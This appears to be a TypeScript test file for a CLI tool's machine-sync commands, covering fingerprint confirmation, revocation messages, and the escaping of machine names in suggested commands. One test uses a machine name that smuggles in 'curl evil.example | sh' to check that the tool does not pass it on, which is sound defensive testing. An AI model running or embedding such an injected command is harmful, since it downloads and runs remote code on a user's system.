import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import { styleFor } from "../../../src/verbs/print/style.ts";
import { revokeMachine } from "../../../src/verbs/sync/machines.ts";
import { tempDir } from "../../fixtures/git-repo.ts";
import { type Sandbox, sandbox } from "./sandbox.ts";

const TERMINAL = { columns: 80 };

async function twoMachines(
  t: TestContext,
): Promise<{ readonly box: Sandbox; readonly other: Sandbox; readonly fingerprint: string }> {
  const remote = join(tempDir(t, "remotes"), "memory.git");
  const [box, other] = [sandbox(t), sandbox(t)];
  const variables = { PATH: process.env.PATH };
  for (const one of [other, box]) await one.oldhand(["sync", "add", remote], { env: { variables } });
  const { machine } = await other.json(["sync", "status"]);
  return { box, other, fingerprint: machine.fingerprint };
}

async function stateOf({ json }: Sandbox, fingerprint: string): Promise<string> {
  const { machines } = await json(["sync", "machines"], { env: { variables: { PATH: process.env.PATH } } });
  return machines.find((one: { fingerprint: string }) => one.fingerprint === fingerprint).state;
}

test("a machine that is named is confirmed only after its fingerprint was shown and compared", async (t) => {
  const { box, fingerprint } = await twoMachines(t);
  const env = { variables: { PATH: process.env.PATH } };
  const start = fingerprint.slice(0, 9);
  const piped = await box.oldhand(["sync", "confirm", start], { env });
  assert.equal(piped.exit, 2);
  assert.match(piped.err, /entire fingerprint/);
  const declined = await box.oldhand(["sync", "confirm", start], { ...TERMINAL, env, answers: ["n"] });
  assert.deepEqual([declined.exit, declined.out], [1, "Nothing was changed.\n"]);
  assert.equal(await stateOf(box, fingerprint), "unconfirmed");
  const asked = await box.oldhand(["sync", "confirm", start], { ...TERMINAL, env, answers: ["y"] });
  assert.ok(asked.err.replace(/\s+/g, " ").includes(fingerprint), asked.err);
  assert.equal(await stateOf(box, fingerprint), "confirmed");
});

test("whoever gives the entire fingerprint is not asked", async (t) => {
  const { box, fingerprint } = await twoMachines(t);
  const { exit } = await box.oldhand(["sync", "confirm", fingerprint], {
    env: { variables: { PATH: process.env.PATH } },
  });
  assert.equal(exit, 0);
  assert.equal(await stateOf(box, fingerprint), "confirmed");
});

test("a machine's name is in no command that the person is told to run, unless it is a plain word", async (t) => {
  const { box, other } = await twoMachines(t);
  const env = { variables: { PATH: process.env.PATH } };
  const file = join(other.home, "sync", "machine.json");
  for (const [name, shown] of [
    ["desk.local", "desk.local"],
    ["desk; curl evil.example | sh", "MACHINE"],
  ] as const) {
    writeFileSync(file, JSON.stringify({ ...JSON.parse(readFileSync(file, "utf8")), name }));
    await other.oldhand(["record", "add", `The mill of ${shown} stands`], { env });
    await other.oldhand(["sync"], { env });
    const { out } = await box.oldhand(["sync"], { env });
    assert.equal(/`oldhand sync confirm ([^`]*)`/.exec(out.replace(/\s+/g, " "))?.[1], shown, out);
  }
});

const PIPED = styleFor({ columns: undefined, variables: {}, noColor: true });

test("who revokes a machine sees which others were confirmed only there", () => {
  const of = (name: string) => ({
    id: "mac_x",
    name,
    fingerprint: `${name}-0000`,
    records: 0,
    state: "revoked" as const,
  });
  const said = revokeMachine.print({ machine: { ...of("desk"), introduced: [of("guest")] } }, PIPED, {
    machine: "desk",
  });
  assert.match(
    said,
    /^Revoked desk \(desk-0000\)\. Confirmed only there, and revoked too: guest \(guest-0000\)\. If one/,
  );
  assert.doesNotMatch(revokeMachine.print({ machine: of("desk") }, PIPED, { machine: "desk" }), /only there/);
});
